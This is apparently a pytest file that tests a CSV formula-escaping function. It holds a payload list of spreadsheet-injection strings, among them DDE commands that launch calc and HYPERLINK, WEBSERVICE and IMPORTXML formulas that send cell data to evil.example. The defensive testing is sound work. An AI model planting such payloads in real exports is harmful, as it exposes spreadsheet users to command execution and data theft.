"""No cell of a CSV export can be taken for a formula."""

from __future__ import annotations

import csv
import io
import re

import pytest

from intake.exports.csv_file import escape_formula

FORMULA_CHARS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "﹦", "﹢", "﹣", "﹫", "−")
_BEFORE = ("", " ", "\t", "\r", "\n", "\r\n", "\u00a0", "\u200b", "\ufeff", "\u202e", "\x00", "\x0b")
_INSIDE = ('"', "'", ",", ";", "|", "\t", "\n", "\r\n", "，", "；", "“", ", ", ";\u200b", '","', '";"')

PAYLOADS = [
    *(f"{before}{char}1+1" for char in FORMULA_CHARS for before in _BEFORE),
    *(f"Sam{between}{char}1+1" for char in FORMULA_CHARS for between in _INSIDE),
    *("\tSam", "\rSam", "\nSam", "\r\nSam", "\t", "=", "@"),
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!D2",
    '=HYPERLINK("http://evil.example?x="&A1,"open")',
    '=WEBSERVICE("http://evil.example/"&A1)',
    '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    '=DDE("cmd";"/C calc";"x")',
    'Sam","=1+1',
    'Sam";=cmd|" /C calc"!A0',
    "Sam\n=1+1\n+2",
    "'=1+1",
    '"=1+1"',
    "+17325550142",
    "-",
    "%0A=1+1\n@x",
]


def _bare(text: str) -> str:
    return re.sub(r"^[\s\x00-\x1f\u200b-\u200f\u202a-\u202e\ufeff]+", "", text)


def test_no_cell_starts_like_a_formula() -> None:
    cells = [escape_formula(payload) for payload in PAYLOADS]

    assert [cell for cell in cells if _bare(cell).startswith(FORMULA_CHARS)] == []
    assert [cell for cell in cells if cell.startswith(("\t", "\r", "\n"))] == []


def test_text_is_guarded_only_at_the_start_of_a_cell() -> None:
    assert escape_formula("-2 days, +1 week") == "'-2 days, +1 week"
    assert escape_formula("Sleeps badly;\n-2 days, =same, @home") == "Sleeps badly;\n-2 days, =same, @home"


def test_cells_survive_a_round_trip_through_csv() -> None:
    for payload in PAYLOADS:
        line = io.StringIO()
        csv.writer(line, quoting=csv.QUOTE_ALL).writerow([escape_formula(payload)])
        (cell,) = next(csv.reader(io.StringIO(line.getvalue(), newline="")))
        assert cell == escape_formula(payload)


@pytest.mark.parametrize(
    "plain",
    [
        *(
            "",
            "Sam",
            "O'Brien",
            "Anne-Marie",
            "sam@example.com",
            "(732) 555-0142",
            "2026-11-23T10:00:00-05:00",
        ),
        *(
            "I sleep badly, often",
            "a + b = c",
            "Zoë; 3-4 times",
            "“quoted”",
            "line one\nline two",
            "1.5",
            "True",
        ),
    ],
)
def test_ordinary_text_is_unchanged(plain: str) -> None:
    assert escape_formula(plain) == plain


def test_corpus_has_at_least_sixty_payloads() -> None:
    assert len(set(PAYLOADS)) >= 60
